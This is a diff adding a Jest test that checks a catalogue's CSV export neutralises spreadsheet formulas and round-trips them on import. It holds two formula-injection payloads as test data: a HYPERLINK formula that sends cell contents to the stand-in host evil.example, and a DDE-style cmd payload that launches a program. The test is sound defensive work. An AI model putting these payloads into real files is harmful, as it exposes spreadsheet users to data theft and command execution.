@@ -170,3 +170,27 @@ describe('exporting the catalogue', () => {
     expect(await exportCsv()).toBe(first);
   });
 });
+
+describe('formulas in the exported CSV (review N8)', () => {
+  it('writes cells a spreadsheet would run with a leading apostrophe, and imports them back unchanged', async () => {
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const description = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const csv = [
+      header,
+      `csv-formula,"${title.replaceAll('"', '""')}",csv-spices,"${description}",true,100,,,1000.00,1.00,,,5`,
+    ].join('\n');
+    expect((await importCsv(csv, false)).json()).toMatchObject({ applied: true, errors: [] });
+    const exported = await exportCsv();
+    const line = exported.split('\n').find((l) => l.startsWith('csv-formula,'))!;
+    expect(line).toContain(`"'=HYPERLINK(`);
+    expect(line).toContain(`'@SUM(1+1)`);
+    expect(line.split(',').some((cell) => /^"?[=+@-]/.test(cell))).toBe(false);
+    expect((await importCsv(exported, false)).json()).toMatchObject({ applied: true, errors: [] });
+    const kept = await db
+      .selectFrom('products')
+      .select(['title', 'description'])
+      .where('slug', '=', 'csv-formula')
+      .executeTakeFirstOrThrow();
+    expect(kept).toEqual({ title, description });
+  });
+});
